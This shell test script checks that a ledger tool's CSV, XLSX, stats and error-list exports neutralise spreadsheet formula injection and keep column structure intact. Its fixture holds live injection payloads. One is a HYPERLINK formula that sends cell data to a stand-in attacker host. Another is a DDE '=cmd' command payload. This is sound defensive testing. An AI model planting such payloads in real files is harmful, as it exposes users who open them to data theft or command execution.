#!/bin/sh
# Spreadsheet injection and broken CSV: ledger values that a spreadsheet would run as formulas
# (=HYPERLINK, +1, -1+2, @SUM) and values that would shift columns (a zone "=1+2,99", a name with
# a quote and a line break) leave every CSV the program writes neutralised with ' and quoted per
# RFC 4180; the files are parsed back with Python's csv module. Export → import changes nothing.
. "$(dirname "$0")/../lib.sh"

import_district d.db

# Python reads a CSV: prints the column count of every row, then the cell at ROW COL (0-based).
cells() { # FILE ROW COL
	python3 - "$@" <<'PY'
import csv, sys
with open(sys.argv[1], newline='', encoding='utf-8-sig') as f:
    rows = list(csv.reader(f))
print(' '.join(sorted({str(len(r)) for r in rows})))
print(rows[int(sys.argv[2])][int(sys.argv[3])])
PY
}
# The cell of column HEADER in the row whose first cell is KEY.
cell_of() { # FILE KEY HEADER
	python3 - "$@" <<'PY'
import csv, sys
with open(sys.argv[1], newline='', encoding='utf-8-sig') as f:
    rows = list(csv.reader(f))
c = rows[0].index(sys.argv[3])
print('\n'.join(r[c] for r in rows if r[0] == sys.argv[2]), end='')
PY
}
ncols() { # FILE: the distinct column counts of its rows
	python3 -c 'import csv,sys; print(" ".join(sorted({str(len(r)) for r in csv.reader(open(sys.argv[1], newline="", encoding="utf-8-sig"))})))' "$1"
}

# The hostile ledger: three enterprises of the district with formula names, investors and a zone.
python3 - "$FIX/district/enterprises.csv" <<'PY' >evil.csv
import csv, sys
rows = list(csv.reader(open(sys.argv[1], newline='', encoding='utf-8-sig')))
h = rows[0]
N, I, Z, T = h.index('企业名称'), h.index('出资人'), h.index('所属区域'), h.index('区域类型')
evil = {1: ('=HYPERLINK("http://evil.example/?x="&A1,"点击")', '+1'),
        2: ('-1+2', '@SUM(1)'),
        3: ('@SUM(1+1)', '=1+2')}
for r, (name, investor) in evil.items():
    rows[r][N], rows[r][I] = name, investor
rows[1][Z], rows[1][T] = '=1+2,99', '科技园'
w = csv.writer(sys.stdout, lineterminator='\r\n')
w.writerows(rows)
PY
run 0 "$FGDJ" import enterprises evil.csv --db d.db --new-places
has out "更新 3"
# A name that itself starts with ' and a formula character (as the web form can store it).
sql d.db "update enterprise set name='''=不是公式的引号' where uscc='91330106MA2000414K'"

run 0 "$FGDJ" export enterprises --db d.db -o e.csv
eq "$(ncols e.csv)" 19 "every exported row has 19 columns (the ledger's, 移出台账 included)"
eq "$(cell_of e.csv 91330106MA20002034 企业名称)" "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")" "=HYPERLINK neutralised"
eq "$(cell_of e.csv 91330106MA20002034 出资人)" "'+1" "+1 neutralised"
eq "$(cell_of e.csv 91330106MA20002034 所属区域)" "'=1+2,99" "zone with a comma: neutralised, one cell"
eq "$(cell_of e.csv 91330106MA20002702 企业名称)" "'-1+2" "-1+2 neutralised"
eq "$(cell_of e.csv 91330106MA20002702 出资人)" "'@SUM(1)" "@SUM neutralised"
eq "$(cell_of e.csv 91330106MA2000342T 出资人)" "'=1+2" "=1+2 neutralised"
# A value that itself starts with ' and a formula character keeps its quote through the round trip.
eq "$(cell_of e.csv 91330106MA2000414K 企业名称)" "''=不是公式的引号" "a leading ' gets one more"
# Plain values are written as they were, unquoted.
has e.csv ",幸福社区,"
hasnt e.csv '"临江小象'

# Export → import: the neutralising quote is dropped again, so nothing changes, not even the history.
hist=$(sql d.db 'select count(*) from history')
before=$(dbsum d.db)
run 0 "$FGDJ" import enterprises e.csv --db d.db
has out "新增 0，更新 0"
eq "$(sql d.db 'select count(*) from history')" "$hist" "re-import adds no history"
eq "$(dbsum d.db)" "$before" "re-import leaves the database unchanged"
eq "$(sql d.db "select name from enterprise where uscc='91330106MA2000414K'")" "'=不是公式的引号" "own quote kept"
eq "$(sql d.db "select z.name from zone z join enterprise e on e.zone_id=z.id where e.uscc='91330106MA20002034'")" \
	"=1+2,99" "zone name stored without the quote"

# A quote and a line break inside a value (the web form can store one): one cell, intact.
db_copy d.db nl.db
sql nl.db "update enterprise set name='甲\"乙
丙, 丁 ' where uscc='91330106MA20002034'"
run 0 "$FGDJ" export enterprises --db nl.db -o nl.csv
eq "$(ncols nl.csv)" 19 "quote and newline: still 19 columns"
eq "$(cell_of nl.csv 91330106MA20002034 企业名称)" "$(printf '甲"乙\n丙, 丁 ')" "quote, newline, trailing space intact"

# XLSX writes text as text: no formula anywhere, the value is there as a string.
run 0 "$FGDJ" export enterprises --db d.db -o e.xlsx
unzip -p e.xlsx xl/worksheets/sheet1.xml >sheet.xml
hasnt sheet.xml "<f>"
has sheet.xml "=HYPERLINK("

# stats --format csv: a zone named "=1+2,99" is one neutralised cell; every row as wide as the header.
run 0 "$FGDJ" stats --db d.db --by zone --format csv -o z.csv
eq "$(ncols z.csv)" "$(python3 -c 'import csv,sys; print(len(next(csv.reader(open(sys.argv[1], encoding="utf-8-sig")))))' z.csv)" \
	"stats csv: constant column count"
has z.csv "\"'=1+2,99\","
run 0 "$FGDJ" stats --db d.db --by zone --format csv
cmp -s out z.csv && ok || fail "stats csv to stdout and to -o differ"

# --errors: the original value of a bad cell is neutralised too.
python3 - e.csv <<'PY' >bad.csv
import csv, sys
rows = list(csv.reader(open(sys.argv[1], newline='', encoding='utf-8-sig')))
rows[2][rows[0].index('经营状态')] = '=cmd|"/c calc"!A0'
csv.writer(sys.stdout, lineterminator='\r\n').writerows(rows)
PY
run 2 "$FGDJ" import enterprises bad.csv --db d.db --errors errs.csv
has err "错误清单已写入"
eq "$(ncols errs.csv)" 7 "errors CSV: 7 columns on every row (those of the web's XLSX list)"
eq "$(cells errs.csv 1 4 | tail -1)" "'=cmd|\"/c calc\"!A0" "errors CSV: value neutralised"
eq "$(cells errs.csv 1 2 | tail -1)" "经营状态" "errors CSV: column"

# An --errors file that cannot be written fails the command and says so.
run 2 "$FGDJ" import enterprises bad.csv --db d.db --errors /dev/full
has err "写入 /dev/full 失败"
hasnt err "错误清单已写入"

finish
